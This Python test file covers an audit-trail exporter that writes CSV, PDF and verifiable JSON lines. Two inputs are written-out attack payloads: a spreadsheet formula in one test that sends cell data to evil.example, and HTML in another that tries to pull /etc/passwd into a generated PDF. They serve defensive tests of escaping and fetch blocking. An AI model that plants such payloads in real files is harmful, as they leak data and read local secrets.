"""The trail as files: CSV that no spreadsheet runs, PDF that is the same twice, JSON lines that verify."""

import builtins
import csv
import io
import json
from datetime import UTC, datetime
from typing import Any

import pytest
from django.utils import translation
from pytest_django import Settings

from audit import keys
from audit.events import Event
from audit.sequencer import Sequencer
from audit.trail import Outcome
from audit.verify import verify
from samd.console import trail_export
from samd.console.trail_export import PdfRefused, complete, csv_text, lines_for_paper, pdf
from samd.console.trail_filter import TrailFilter
from samd.console.trail_story import story_of
from tests.console import rows as build
from tests.console import trail as told

pytestmark = [pytest.mark.django_db, pytest.mark.requirement("AUD-09")]


def rows(wanted: TrailFilter | None = None, language: str = "en") -> list[dict[str, str]]:
    text = "".join(text for text, _events in csv_text(wanted or TrailFilter(), language=language))
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def imprint(**more: Any) -> dict[str, Any]:
    return {
        "plain": True,
        "zone": "Asia/Seoul",
        "printed_by": "lee",
        "printed_at": datetime(2025, 3, 14, 12, 0, tzinfo=UTC),
        "reason": "inspection: 식약처 정기 점검",
        **more,
    }


def test_csv_says_everything_that_the_list_says(sequencer: Sequencer, settings: Settings) -> None:
    settings.TIME_ZONE = "Asia/Seoul"
    event = told.event(
        Event.REPORT_REFUSED,
        "delivery/3",
        by="kim",
        at="10.0.0.7",
        study="study/5",
        outcome=Outcome.SERIOUS_FAILURE,
        reason="out of resources",
        changes={"stage": ("reported", "undelivered")},
        peer="archive",
    )
    told.seal(sequencer)

    (row,) = rows()

    assert row["Number"] == "0"
    assert row["Checkpoint"] == "1"
    assert row["Time (UTC)"] == event.at.strftime("%Y-%m-%d %H:%M:%S.%f")
    assert row["Event"] == "report:refused"
    assert row["What happened"] == "archive refused the results"
    assert (row["Person"], row["Address"], row["Study"]) == ("kim", "10.0.0.7", "study/5")
    assert (row["Outcome"], row["Reason"]) == ("Serious failure", "out of resources")
    assert row["Old and new values"] == "stage: reported → not delivered"
    assert row["Further facts"] == '{"peer":"archive"}'
    assert row["As sealed"] == "yes"


def test_csv_holds_what_passes_the_filter_the_oldest_first(
    sequencer: Sequencer, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(trail_export, "_AT_ONCE", 2)
    for number in range(5):
        told.event(Event.STUDY_VIEWED, f"study/{number}", by="kim")
        told.event(Event.ANALYSIS_STARTED, f"analysis/{number}")
        if number == 2:
            told.seal(sequencer)

    assert [row["About"] for row in rows(TrailFilter(person="kim"))] == [f"study/{n}" for n in range(5)]
    assert len(rows()) == 10


def test_csv_counts_its_events() -> None:
    for _ in range(3):
        told.event(Event.STUDY_VIEWED)

    assert sum(events for _text, events in csv_text(TrailFilter(), language="en")) == 3


@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
def test_no_cell_is_taken_for_a_formula(begin: str) -> None:
    attack = f'{begin}HYPERLINK("http://evil.example/"&A1)'
    told.event(Event.ASSOCIATION_REFUSED, "refusal/1", reason=attack, calling_ae=attack, from_address=attack)

    (row,) = rows()

    assert row["Reason"] == f"'{attack}"
    assert row["Address"] == f"'{attack}"
    assert not any(cell.startswith(begin) for cell in row.values())


def test_a_cell_keeps_its_commas_quotes_and_line_breaks() -> None:
    told.event(Event.ASSOCIATION_REFUSED, "refusal/1", reason='he said "no",\r\nand left')

    assert rows()[0]["Reason"] == 'he said "no",\r\nand left'


def test_csv_speaks_the_language_of_whoever_asked() -> None:
    told.event(Event.ASSOCIATION_REFUSED, "refusal/1")
    chunks = csv_text(TrailFilter(), language="ko")

    with translation.override("en"):  # whatever the thread speaks by the time that it is read
        heading = next(chunks)[0]

    assert "사유" in heading


def test_an_altered_row_is_exported_as_altered(sequencer: Sequencer) -> None:
    told.event(Event.STUDY_VIEWED, by="kim")
    told.seal(sequencer)
    told.forge(actor="lee")

    assert rows()[0]["As sealed"] == "ALTERED"


def test_the_complete_file_is_what_an_outsider_verifies(sequencer: Sequencer) -> None:
    for _ in range(3):
        told.event(Event.STUDY_VIEWED)
    told.seal(sequencer)
    told.event(Event.STUDY_VIEWED)

    parts = list(complete())

    lines = "".join(text for text, _events in parts).splitlines(keepends=True)
    assert verify(lines, keys=list(keys.known())).ok
    assert sum(events for _text, events in parts) == 4
    assert json.loads(lines[-1])["events"] == 3


def test_a_pdf_is_the_same_to_the_byte_for_the_same_content() -> None:
    run = build.study()
    told.event(Event.STUDY_VIEWED, str(run.study), by="kim", study=str(run.study))
    story = story_of(run.study_id)

    first, again = (pdf("console/trail_story_print.html", imprint(story=story)) for _ in range(2))

    assert first == again
    assert first.startswith(b"%PDF-")


def test_a_pdf_fetches_nothing_that_its_content_names(monkeypatch: pytest.MonkeyPatch) -> None:
    def fetch(*_: object, **__: object) -> None:
        raise AssertionError("something was fetched")

    monkeypatch.setattr("urllib.request.OpenerDirector.open", fetch)
    told.event(
        Event.ASSOCIATION_REFUSED,
        "refusal/1",
        reason='<img src="http://127.0.0.1/x"><link rel=attachment href="file:///etc/passwd">',
    )

    made = pdf(
        "console/trail_list_print.html",
        imprint(lines=lines_for_paper(TrailFilter()), wanted=TrailFilter()),
    )

    assert b"root:" not in made


def test_more_than_fits_on_paper_is_refused_in_plain_words(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(trail_export, "MOST_IN_PDF", 2)
    for _ in range(3):
        told.event(Event.STUDY_VIEWED)

    with pytest.raises(PdfRefused, match="More than 2 events pass this filter: narrow it, or take CSV"):
        lines_for_paper(TrailFilter())


def test_a_server_without_pango_says_what_to_install(monkeypatch: pytest.MonkeyPatch) -> None:
    importing = builtins.__import__

    def without_pango(name: str, *rest: Any) -> Any:
        if name.startswith("weasyprint"):
            raise OSError("cannot load library 'libpango-1.0-0'")
        return importing(name, *rest)

    monkeypatch.setattr(builtins, "__import__", without_pango)

    with pytest.raises(PdfRefused, match=r"libpango-1\.0-0"):
        pdf("console/trail_list_print.html", imprint(lines=(), wanted=TrailFilter()))
